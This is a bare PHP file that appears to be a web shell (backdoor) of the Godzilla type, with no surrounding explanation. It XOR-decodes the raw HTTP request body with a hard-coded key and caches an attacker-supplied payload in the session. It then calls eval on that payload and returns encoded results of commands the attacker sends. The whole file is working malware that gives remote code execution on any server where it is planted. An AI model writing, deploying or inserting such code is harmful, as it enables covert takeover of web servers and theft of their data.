<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function xr($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $D[$i] = $D[$i]^$K[$i+1&15];
    }
    return $D;
}
$payloadName='p';
$key='b0aba9abfef34d1f';
$data=file_get_contents("php://input");
if ($data!==false){
    $data=xr($data,$key);
    if (isset($_SESSION[$payloadName])){
        $payload=xr($_SESSION[$payloadName],$key);
        eval($payload);
        echo xr(@run($data),$key);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=xr($data,$key);
        }
    }
}
